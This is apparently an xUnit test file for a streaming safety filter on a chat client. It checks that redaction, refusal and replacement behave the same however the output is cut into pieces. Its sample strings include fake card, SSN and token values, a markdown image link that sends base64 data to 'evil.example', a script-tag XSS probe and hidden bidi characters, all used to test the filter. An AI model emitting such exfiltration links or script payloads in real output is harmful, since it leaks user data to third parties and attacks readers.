using Gemma4.Safety.Detection;
using Gemma4.Safety.Policies;
using Gemma4.Testing;
using Microsoft.Extensions.AI;

namespace Gemma4.Safety.Tests.Pipeline;

public sealed class StreamPropertyTests
{
    private static readonly string[] Parts =
    [
        "Please write to anna@example.com, ", "call (602) 272-9781. ", "IBAN DE89 3704 0044 0532 0130 00. ", "card 4111 1111 1111 1111, ",
        "see https://www.example.com/a?b=c or shop.example.org. ", "the quick brown fox jumps over the lazy dog ", "in 2024 there were 1,234 items! ",
        "SSN 536-22-1234 ", "\n\n", "漢字と仮名。", "🙂👍🏽 ", "e\u0301a\u0300 ", "👨\u200D👩\u200D👧 ", "<EMAIL_1> ", "<EMAIL_", "12> ", "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a ",
        "![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE) ", "<script>alert(1)</script> ", "a\u200Bb\u202Ec ", "Is it so? Yes. ",
    ];

    private static readonly string[] Rare = ["Project Falcon ", "api_key: f3a9c1d07b5e42a8 "];

    public static TheoryData<int, StreamingMode, SafetyAction> Cases
    {
        get
        {
            var cases = new TheoryData<int, StreamingMode, SafetyAction>();
            for (var seed = 1; seed <= 12; seed++)
            {
                foreach (var mode in Enum.GetValues<StreamingMode>())
                {
                    cases.Add(seed, mode, seed % 3 == 0 ? SafetyAction.Replace : seed % 3 == 1 ? SafetyAction.Refuse : SafetyAction.Redact);
                }
            }

            return cases;
        }
    }

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task Text_and_verdict_are_those_of_the_whole_text_whatever_the_cuts(int seed, StreamingMode mode, SafetyAction action)
    {
        var random = new Random(seed);
        var text = string.Concat(Enumerable.Range(0, 30).Select(index => index == 17 ? Rare[random.Next(Rare.Length)] : Parts[random.Next(Parts.Length)]));
        var expected = await Pipe.AskAsync(Around(new ScriptedChatClient().Enqueue(text), mode, action), "mail anna@example.com", isStreamed: false);
        foreach (var longest in (int[])[1, 3, 20, 200])
        {
            var model = new ScriptedChatClient().Enqueue(Pipe.Cut(text, seed, longest));
            var emitted = "";
            ChatFinishReason? finish = null;
            AdditionalPropertiesDictionary? properties = null;
            await foreach (var update in Around(model, mode, action).GetStreamingResponseAsync("mail anna@example.com"))
            {
                emitted += update.Text;
                Assert.Equal(expected.Text[..Math.Min(emitted.Length, expected.Text.Length)], emitted);
                finish = update.FinishReason ?? finish;
                properties = update.AdditionalProperties ?? properties;
            }

            Assert.Equal(expected.Text, emitted);
            Assert.Equal(expected.FinishReason, finish);
            Assert.Equal(expected.AdditionalProperties?["safety.rule"], properties?["safety.rule"]);
            Assert.DoesNotContain("16C7e42F", emitted);
            Assert.DoesNotContain("4111 1111", emitted);
            Assert.DoesNotContain("alcon", emitted);
        }
    }

    [Theory]
    [InlineData(StreamingMode.HoldBack)]
    [InlineData(StreamingMode.Sentence)]
    public async Task No_piece_ends_within_a_character(StreamingMode mode)
    {
        const string Text = "👨\u200D👩\u200D👧 e\u0301 👍🏽. Next 🙂! ";
        var model = new ScriptedChatClient().Enqueue(Pipe.Cut(string.Concat(Enumerable.Repeat(Text, 8)), 3, 1));
        var whole = System.Globalization.StringInfo.ParseCombiningCharacters(string.Concat(Enumerable.Repeat(Text, 8)));
        var position = 0;

        await foreach (var update in Around(model, mode, SafetyAction.Redact).GetStreamingResponseAsync("go"))
        {
            position += update.Text.Length;
            Assert.True(whole.Contains(position) || position == 8 * Text.Length, $"cut at {position}");
        }

        Assert.Equal(8 * Text.Length, position);
    }

    [Fact]
    public async Task A_failing_stream_ends_with_what_was_held_back_and_the_failure()
    {
        var client = Around(new FailingClient(["The card is 4111 1111 ", "1111 1111 and the wor"]), StreamingMode.HoldBack, SafetyAction.Redact);
        var emitted = "";

        await Assert.ThrowsAsync<IOException>(async () =>
        {
            await foreach (var update in client.GetStreamingResponseAsync("go"))
            {
                emitted += update.Text;
            }
        });

        Assert.Equal("The card is <CREDIT_CARD> and the wor", emitted);
    }

    [Fact]
    public async Task A_whole_text_filter_reads_sentences_when_told_to()
    {
        var filter = new WordFilter();
        var model = new ScriptedChatClient().Enqueue(Pipe.Texts("One good. Two ", "go", "od. Three bad. Four."));
        var client = Pipe.Around(model, options => options.AddFilter(filter).Policies["default"] = new SafetyPolicy
        {
            Streaming = StreamingMode.Sentence,
            Rules = [new() { Detector = "word", Action = SafetyAction.Refuse, Stages = [SafetyStage.Output] }],
        });

        var response = await client.GetStreamingResponseAsync("go").ToChatResponseAsync();

        Assert.StartsWith("One good. Two good. \n\nThis request", response.Text);
        Assert.Equal(["One good. ", "Two good. ", "Three bad. "], filter.Texts);
    }

    [Fact]
    public async Task Harmless_text_is_shown_after_a_few_words()
    {
        const string Prose = "It was a bright day in April and all the clocks in the town were striking when she came home from the market with bread and a paper";
        var model = new ScriptedChatClient().Enqueue([.. Prose.Select(character => (AIContent)new TextContent(character.ToString()))]);
        var seen = 0;
        var shown = 0;

        await foreach (var update in Pipe.Around(model).GetStreamingResponseAsync("go"))
        {
            seen++;
            shown += update.Text.Length;
            Assert.InRange(Math.Min(seen, Prose.Length) - shown, -1, 70);
        }

        Assert.Equal(Prose.Length, shown);
    }

    private static IChatClient Around(IChatClient model, StreamingMode mode, SafetyAction action) => Pipe.Around(model, options => options.Policies["default"] = new SafetyPolicy
    {
        Streaming = mode,
        Rules =
        [
            .. SafetyPolicy.CreateDefault().Rules.Where(rule => rule.Detector != "unsafe-output"),
            new() { Detector = "unsafe-output", Action = SafetyAction.Redact, Style = RedactionStyle.Mask, Stages = [SafetyStage.Output] },
            new() { Detector = "blocked-words", Phrases = ["project falcon"], Action = action, Replacement = action == SafetyAction.Replace ? "Let us talk of something else." : null, Stages = [SafetyStage.Output] },
        ],
    });

    private sealed class WordFilter : ISafetyFilter
    {
        public List<string> Texts { get; } = [];

        public string Id => "word";

        public ValueTask<IReadOnlyList<Finding>> CheckAsync(string text, SafetyStage stage, CancellationToken cancellationToken)
        {
            Texts.Add(text);
            return ValueTask.FromResult<IReadOnlyList<Finding>>(text.Contains("bad") ? [new Finding("word/bad", RiskCategory.Harm, "TEXT", 0, text.Length, 1)] : []);
        }
    }

    private sealed class FailingClient(string[] pieces) : IChatClient
    {
        public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default) => throw new NotSupportedException();

        public async IAsyncEnumerable<ChatResponseUpdate> GetStreamingResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, [System.Runtime.CompilerServices.EnumeratorCancellation] CancellationToken cancellationToken = default)
        {
            foreach (var piece in pieces)
            {
                await Task.Yield();
                yield return new ChatResponseUpdate(ChatRole.Assistant, piece);
            }

            throw new IOException("the line is dead");
        }

        public object? GetService(Type serviceType, object? serviceKey = null) => null;

        public void Dispose()
        {
        }
    }
}
